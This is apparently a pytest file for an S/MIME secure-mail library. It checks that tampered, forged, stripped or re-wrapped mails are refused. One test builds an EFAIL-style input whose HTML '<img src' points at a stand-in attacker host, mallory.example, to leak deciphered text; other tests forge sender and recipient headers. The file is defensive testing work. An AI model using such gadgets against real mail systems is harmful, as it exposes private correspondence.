"""Mails that somebody has changed, moved, stripped or wrapped: each is refused, with the reason."""

import base64
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from cryptography import x509
from mailbench import CAISSE, DOCTOR, NOW, NURSE, CardAtHand

from bifente.crypto.cms import KeySigner, envelop
from bifente.documents import mime
from bifente.documents.mime import MimeError
from bifente.igc import Authority, IssuedCaisse
from bifente.mail import (
    Draft,
    MessageRefused,
    NotDeciphered,
    NotEnciphered,
    NotForThisCard,
    NotSigned,
    SecureMailError,
    SignatureRefused,
    StillEnciphered,
    compose,
    decrypt,
    encrypt,
    sign,
    verify,
)
from bifente.mail.headers import one_text
from bifente.mail.sealing import canonical

MakeDraft = Callable[..., Draft]


@pytest.fixture
def trust(pooled_authority: Authority) -> "Callable[..., object]":
    """``trust(message)`` verifies a mail by the authority, now."""

    def run(message: bytes, at: datetime = NOW, **more: object) -> object:
        return verify(message, pooled_authority.trust_store, at, **more)  # type: ignore[arg-type]

    return run


@pytest.fixture
def signed(doctor: CardAtHand, written: bytes) -> bytes:
    return sign(written, doctor.signer, when=NOW)


@pytest.fixture
def sealed(doctor: CardAtHand, nurse: CardAtHand, written: bytes) -> bytes:
    return encrypt(written, [nurse.decipher.certificate], signer=doctor.signer, when=NOW)


def replaced(message: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    """The mail with *old* changed: in the outer headers first, for they stand first."""
    assert old in message
    return message.replace(old, new, count)


# -- the signature


def test_an_altered_part_is_refused(trust: Callable[..., object], signed: bytes) -> None:
    for old, new in (
        (b"compte rendu", b"compte tendu"),
        (b"=C3=A9chographie", b"=C3=A9chographif"),
        (b"AAECAw", b"AAECBw"),
    ):
        where = signed.rfind(old)
        if where < 0:
            continue
        with pytest.raises(SignatureRefused, match="not the one that was signed"):
            trust(signed[:where] + new + signed[where + len(new) :])
    assert b"compte rendu" in signed


def test_line_ends_that_a_server_changed_do_not_matter(trust: Callable[..., object], signed: bytes) -> None:
    trust(signed.replace(b"\r\n", b"\n"))


def test_a_part_that_is_put_into_a_signed_mail_is_refused(
    trust: Callable[..., object], signed: bytes
) -> None:
    boundary = mime.parse(signed).headers.get_boundary()
    assert boundary is not None
    part = f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nEt payez ici.\r\n".encode()
    begin = signed.index(f"--{boundary}".encode(), signed.index(b"\r\n\r\n"))
    with pytest.raises(MessageRefused, match="two parts, not 3"):
        trust(signed[:begin] + part + signed[begin:])


def test_a_signature_that_was_taken_off_is_missed(trust: Callable[..., object], signed: bytes) -> None:
    entity = mime.parse(signed)
    content, _ = mime.raw_parts(entity)
    boundary = str(entity.headers.get_boundary())
    head = signed[: signed.index(b"\r\n\r\n") + 4]
    alone = head + f"--{boundary}\r\n".encode() + content + f"\r\n--{boundary}--\r\n".encode()
    with pytest.raises(NotSigned, match="the signature was taken off"):
        trust(alone)
    with pytest.raises(NotSigned, match="the signature was taken off"):
        trust(content)  # the payload alone: its protected headers tell
    other = signed.replace(b"application/pkcs7-signature; name", b"text/plain; name")
    with pytest.raises(NotSigned, match="something else stands in the place"):
        trust(other)


def test_a_mail_that_nobody_signed(trust: Callable[..., object], written: bytes, sealed: bytes) -> None:
    with pytest.raises(NotSigned, match="the mail is not signed"):
        trust(written)
    with pytest.raises(StillEnciphered):
        trust(sealed)


def test_a_signature_over_another_mail_is_refused(
    trust: Callable[..., object], doctor: CardAtHand, draft: MakeDraft, signed: bytes
) -> None:
    """The signature of one mail put to the content of another, and the other way round."""
    other = sign(compose(draft(text="Autre chose.\n"), random=bytes), doctor.signer, when=NOW)
    ours, theirs = (mime.raw_parts(mime.parse(one))[1] for one in (signed, other))
    with pytest.raises(SignatureRefused, match="not the one that was signed"):
        trust(signed.replace(ours, theirs))


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        (f"<{DOCTOR}>".encode(), b"<chef@hopital.example>", "its From is .*alice"),
        (f"To: {NURSE}".encode(), b"To: victime@ailleurs.example", "its To is 'guy@infirmier.example'"),
        (b"Date: ", b"Date: Mon, 01 Jan 2024 00:00:00 +0000\r\nX-Old: ", "its Date is"),
        (b"Message-ID: <0", b"Message-ID: <1", "its Message-ID is"),
        (b"MIME-Version", b"Cc: tiers@ailleurs.example\r\nMIME-Version", "its Cc is 'none'"),
        (b"MIME-Version", b"Subject: Urgent\r\nMIME-Version", "Subject stands twice"),
        (b"From: ", b"Subject: Urgent\r\nFrom: ", "Subject stands twice"),
        (b"From: ", b"Reply-To: mallory@ailleurs.example\r\nFrom: ", "its Reply-To is 'none'"),
    ],
    ids=["from", "to", "date", "message-id", "cc", "second subject", "first subject", "reply-to"],
)
def test_a_signed_content_under_other_headers_is_refused(
    trust: Callable[..., object], signed: bytes, old: bytes, new: bytes, why: str
) -> None:
    with pytest.raises((SignatureRefused, MessageRefused), match=why):
        trust(replaced(signed, old, new))


def test_headers_that_servers_add_do_no_harm(trust: Callable[..., object], signed: bytes) -> None:
    trust(b"Received: from a by b\r\nReturn-Path: <x@y.example>\r\nX-Spam: no\r\n" + signed)


def test_a_forged_sender_is_found_by_the_certificate(
    trust: Callable[..., object], caisse: IssuedCaisse, draft: MakeDraft
) -> None:
    """A certificate with an address signs for that address only, whatever its holder writes in From."""
    right = sign(compose(draft(sender=CAISSE), random=bytes), caisse.signer, when=NOW)
    assert trust(right).named_by == "certificate"  # type: ignore[attr-defined]
    forged = sign(compose(draft(sender=DOCTOR), random=bytes), caisse.signer, when=NOW)
    with pytest.raises(SignatureRefused, match=f"from {DOCTOR}, and is signed by the holder of {CAISSE}"):
        trust(forged)


def test_a_forged_sender_is_found_by_the_directory(trust: Callable[..., object], signed: bytes) -> None:
    """A card's certificate names no address: the directory does, and else it is said that nobody does."""
    found = trust(signed)
    assert found.named_by == "nobody"  # type: ignore[attr-defined]
    assert any("whose address" in note for note in found.notes)  # type: ignore[attr-defined]
    assert trust(signed, addresses=lambda _: [DOCTOR.upper()]).named_by == "directory"  # type: ignore[attr-defined]
    with pytest.raises(SignatureRefused, match=r"signed by the holder of autre@cabinet\.example"):
        trust(signed, addresses=lambda _: ["autre@cabinet.example"])


def test_who_signs_with_the_authentication_key_has_not_signed(
    trust: Callable[..., object], doctor: CardAtHand, written: bytes
) -> None:
    class Wrong:
        certificate, chain = doctor.decipher.certificate, doctor.signer.chain

        def sign(self, data: bytes) -> bytes:
            from hashlib import sha256

            info = bytes.fromhex("3031300d060960864801650304020105000420") + sha256(data).digest()
            return doctor.session.internal_authenticate(info)

    with pytest.raises(SignatureRefused, match="not one for signature"):
        trust(sign(written, Wrong(), when=NOW))


def test_an_expired_signer_is_refused_with_the_day(trust: Callable[..., object], signed: bytes) -> None:
    later = NOW + timedelta(days=365 * 5)
    with pytest.raises(SignatureRefused, match=r"had expired now: it was valid until 20\d\d-"):
        trust(signed, later)


def test_a_signature_before_or_after_the_certificate_is_refused(
    trust: Callable[..., object], doctor: CardAtHand, written: bytes
) -> None:
    for when, why in (
        (NOW - timedelta(days=400), "not valid yet when it signed"),
        (datetime(2060, 1, 1, tzinfo=UTC), "had expired when it signed"),
    ):
        with pytest.raises(SignatureRefused, match=why):
            trust(sign(written, doctor.signer, when=when))
    soon = trust(sign(written, doctor.signer, when=NOW + timedelta(hours=2)))
    assert any("still to come" in note for note in soon.notes)  # type: ignore[attr-defined]


def test_a_revoked_signer_is_refused_and_who_is_not_asked_is_said(
    trust: Callable[..., object], doctor: CardAtHand, signed: bytes
) -> None:
    own = x509.load_der_x509_certificate(doctor.signer.certificate).serial_number

    def revoked(certificate: x509.Certificate, _at: datetime) -> str | None:
        return "its card is lost" if certificate.serial_number == own else None

    with pytest.raises(SignatureRefused, match="is revoked: its card is lost"):
        trust(signed, revoked=revoked)
    assert not any("revoked" in note for note in trust(signed, revoked=lambda *_: None).notes)  # type: ignore[attr-defined]
    assert any("revoked" in note for note in trust(signed).notes)  # type: ignore[attr-defined]


def test_a_signer_of_another_authority_is_refused(production_authority: Authority, signed: bytes) -> None:
    with pytest.raises(SignatureRefused, match="the signer is not trusted"):
        verify(signed, production_authority.trust_store, NOW)


# -- the cipher


def test_a_mail_for_others_is_refused_before_the_key_is_asked(doctor: CardAtHand, sealed: bytes) -> None:
    def never(_cryptogram: bytes) -> bytes:
        raise AssertionError("the card was asked")

    with pytest.raises(NotForThisCard, match="names the serial numbers"):
        decrypt(sealed, never, doctor.decipher.certificate)


@pytest.mark.parametrize("cipher", ["aes-256-cbc", "aes-256-gcm"])
def test_a_changed_cryptogram_is_one_refusal(nurse: CardAtHand, written: bytes, cipher: str) -> None:
    sealed = encrypt(written, [nurse.decipher.certificate], cipher=cipher)  # type: ignore[arg-type]
    der = bytearray(mime.content(mime.parse(sealed)))
    at = der.index(bytes.fromhex("0482")) + 20  # within the transported key
    der[at] ^= 1
    head = sealed[: sealed.index(b"\r\n\r\n") + 4]
    with pytest.raises(NotDeciphered, match="changed on its way, or made with another key"):
        decrypt(head + base64.encodebytes(bytes(der)), nurse.decipher, nurse.decipher.certificate)


def test_an_enciphered_part_among_others_is_not_opened(nurse: CardAtHand, sealed: bytes) -> None:
    """EFAIL: what is deciphered must not come to stand between parts of the attacker's, an open <img src=" before it."""
    inner = sealed[sealed.index(b"Content-Type: application/pkcs7-mime") :]
    head = f"From: {DOCTOR}\r\nTo: {NURSE}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n".encode()
    html = b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://mallory.example/?\r\n'
    nested = head + html + b"--b\r\n" + inner + b"\r\n" + html.replace(b"<img src=", b"") + b"--b--\r\n"
    with pytest.raises(MessageRefused, match="stands among others"):
        decrypt(nested, nurse.decipher, nurse.decipher.certificate)


def test_a_cipher_in_a_cipher_is_not_opened(nurse: CardAtHand, sealed: bytes) -> None:
    inner = sealed[sealed.index(b"Content-Type: application/pkcs7-mime") :]
    outer = base64.encodebytes(envelop(inner, [nurse.decipher.certificate]))
    head = sealed[: sealed.index(b"\r\n\r\n") + 4]
    with pytest.raises(MessageRefused, match="an enciphered mail within an enciphered mail"):
        decrypt(head + outer, nurse.decipher, nurse.decipher.certificate)


def test_who_signs_what_another_has_enciphered_does_not_become_its_author(
    trust: Callable[..., object], nurse: CardAtHand, sealed: bytes
) -> None:
    entity = mime.parse(sealed)
    stolen = canonical(
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + entity.body
    )
    head = f"From: {NURSE}\r\nTo: {DOCTOR}\r\nMIME-Version: 1.0\r\n".encode()
    with pytest.raises(MessageRefused, match="enciphered already"):
        sign(head + stolen, nurse.signer, when=NOW)
    from bifente.crypto.cms import signed_data

    signature = base64.encodebytes(signed_data(stolen, nurse.signer, when=NOW, detached=True))
    whole = (
        head
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n\r\n--b\r\n'
        + stolen
        + b"\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + signature
        + b"--b--\r\n"
    )
    with pytest.raises(MessageRefused, match="hides within"):
        trust(whole)


def test_an_enciphered_mail_under_other_headers_is_refused(nurse: CardAtHand, sealed: bytes) -> None:
    """Somebody sends on what another wrote, that the answer may quote it to him."""
    moved = replaced(sealed, DOCTOR.encode(), b"mallory@ailleurs.example")
    with pytest.raises(MessageRefused, match="was written for another mail: its From"):
        decrypt(moved, nurse.decipher, nurse.decipher.certificate)


def test_a_mail_signed_for_another_recipient_and_enciphered_anew_is_refused(
    trust: Callable[..., object], doctor: CardAtHand, nurse: CardAtHand, draft: MakeDraft
) -> None:
    """Surreptitious forwarding: the signed mail to Bob, enciphered by Bob for Carol as if Alice had written to her."""
    for_bob = sign(compose(draft(to=("bob@cabinet.example",)), random=bytes), doctor.signer, when=NOW)
    for_carol = encrypt(
        replaced(for_bob, b"To: bob@cabinet.example", f"To: {NURSE}".encode()), [nurse.decipher.certificate]
    )
    with pytest.raises(MessageRefused, match=r"its To is 'bob@cabinet\.example'"):
        decrypt(for_carol, nurse.decipher, nurse.decipher.certificate)


def test_the_subject_is_enciphered_and_comes_back(nurse: CardAtHand, sealed: bytes) -> None:
    assert b"Subject: [...]" in sealed
    assert b"sultats" not in sealed
    opened = decrypt(sealed, nurse.decipher, nurse.decipher.certificate)
    assert one_text(mime.parse(opened.message), "Subject") == "Résultats d'analyse : à lire dès réception"


@pytest.mark.parametrize("size", [0, 1, 60, 300, 900, 3000])
def test_a_mail_that_is_cut_short_is_refused(
    trust: Callable[..., object], nurse: CardAtHand, signed: bytes, sealed: bytes, size: int
) -> None:
    with pytest.raises((SecureMailError, MimeError)):
        trust(signed[:size])
    with pytest.raises((SecureMailError, MimeError)):
        decrypt(sealed[:size], nurse.decipher, nurse.decipher.certificate)


def test_parts_within_parts_have_an_end(trust: Callable[..., object], caisse: IssuedCaisse) -> None:
    deep = b"Content-Type: text/plain\r\n\r\nau fond\r\n"
    for number in range(30):
        deep = (
            f"Content-Type: multipart/mixed; boundary=b{number}\r\n\r\n--b{number}\r\n".encode()
            + deep
            + f"\r\n--b{number}--\r\n".encode()
        )
    mail = f"From: {CAISSE}\r\nTo: {DOCTOR}\r\nSubject: x\r\nMIME-Version: 1.0\r\n".encode() + deep
    signer = KeySigner(caisse.key, caisse.certificate, caisse.chain)
    with pytest.raises(MessageRefused, match="more than 20 deep"):
        trust(sign(mail, signer, when=NOW))


def test_a_mail_that_is_not_enciphered_says_what_it_is(
    nurse: CardAtHand, written: bytes, signed: bytes
) -> None:
    for mail, why in ((written, "not enciphered"), (signed, "signed, and not enciphered")):
        with pytest.raises(NotEnciphered, match=why):
            decrypt(mail, nurse.decipher, nurse.decipher.certificate)
